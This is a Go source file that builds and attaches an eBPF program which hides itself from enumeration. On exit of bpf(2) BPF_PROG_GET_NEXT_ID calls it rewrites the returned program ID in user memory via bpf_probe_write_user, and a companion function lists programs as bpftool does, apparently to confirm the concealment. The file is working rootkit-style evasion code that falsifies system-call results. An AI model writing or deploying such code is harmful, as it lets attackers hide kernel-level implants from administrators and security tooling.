package main

import (
	"errors"
	"fmt"
	"os"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/asm"
	"github.com/cilium/ebpf/link"
)

// hideBPF loads a program that hides itself from who asks bpf(2) which programs there are: when such a call is over, it
// changes the identifier that was written to the caller's memory to one that no program has.
func hideBPF([]string) error {
	hidden, err := ebpf.NewMap(&ebpf.MapSpec{Name: "hidden", Type: ebpf.Array, KeySize: 4, ValueSize: 4, MaxEntries: 1})
	if err != nil {
		return err
	}
	const bpf, nextProgram = 321, 11 // SYS_BPF, BPF_PROG_GET_NEXT_ID
	// Offsets are of struct pt_regs.
	register := func(offset int32) asm.Instructions {
		return asm.Instructions{
			asm.Mov.Reg(asm.R1, asm.RFP), asm.Add.Imm(asm.R1, -8), asm.Mov.Imm(asm.R2, 8), asm.Mov.Reg(asm.R3, asm.R6), asm.Add.Imm(asm.R3, offset),
			asm.FnProbeReadKernel.Call(), asm.LoadMem(asm.R7, asm.RFP, -8, asm.DWord),
		}
	}
	var code asm.Instructions
	code = append(code, asm.LoadMem(asm.R6, asm.R1, 0, asm.DWord))
	code = append(code, register(120)...)
	code = append(code, asm.JNE.Imm(asm.R7, bpf, "out"))
	code = append(code, register(112)...)
	code = append(code, asm.JNE.Imm(asm.R7, nextProgram, "out"))
	code = append(code, register(104)...)
	code = append(code,
		asm.StoreImm(asm.RFP, -16, 0, asm.Word), asm.Mov.Reg(asm.R2, asm.RFP), asm.Add.Imm(asm.R2, -16), asm.LoadMapPtr(asm.R1, hidden.FD()),
		asm.FnMapLookupElem.Call(), asm.JEq.Imm(asm.R0, 0, "out"), asm.LoadMem(asm.R8, asm.R0, 0, asm.Word),
		asm.Mov.Reg(asm.R1, asm.RFP), asm.Add.Imm(asm.R1, -8), asm.Mov.Imm(asm.R2, 4), asm.Mov.Reg(asm.R3, asm.R7), asm.Add.Imm(asm.R3, 4),
		asm.FnProbeReadUser.Call(), asm.LoadMem(asm.R1, asm.RFP, -8, asm.Word), asm.JNE.Reg(asm.R1, asm.R8, "out"),
		asm.Add.Imm(asm.R1, 1000), asm.StoreMem(asm.RFP, -8, asm.R1, asm.Word),
		asm.Mov.Reg(asm.R1, asm.R7), asm.Add.Imm(asm.R1, 4), asm.Mov.Reg(asm.R2, asm.RFP), asm.Add.Imm(asm.R2, -8), asm.Mov.Imm(asm.R3, 4),
		asm.FnProbeWriteUser.Call(),
		asm.Mov.Imm(asm.R0, 0).WithSymbol("out"), asm.Return(),
	)
	p, err := ebpf.NewProgram(&ebpf.ProgramSpec{Name: "hides", Type: ebpf.RawTracepoint, License: "GPL", Instructions: code})
	if err != nil {
		return fmt.Errorf("load: %w", err)
	}
	info, err := p.Info()
	if err != nil {
		return err
	}
	id, _ := info.ID()
	if err := hidden.Put(uint32(0), uint32(id)); err != nil {
		return err
	}
	kept, err = link.AttachRawTracepoint(link.RawTracepointOptions{Name: "sys_exit", Program: p})
	fmt.Println("program", id)
	return err
}

// listBPF asks which programs there are, as bpftool does, and ends.
func listBPF([]string) error {
	for id := ebpf.ProgramID(0); ; {
		next, err := ebpf.ProgramGetNextID(id)
		if errors.Is(err, os.ErrNotExist) {
			os.Exit(0)
		}
		if err != nil {
			return err
		}
		fmt.Println(next)
		id = next
	}
}

// kept is what must not be closed.
var kept any //nolint:unused // the collector would close it
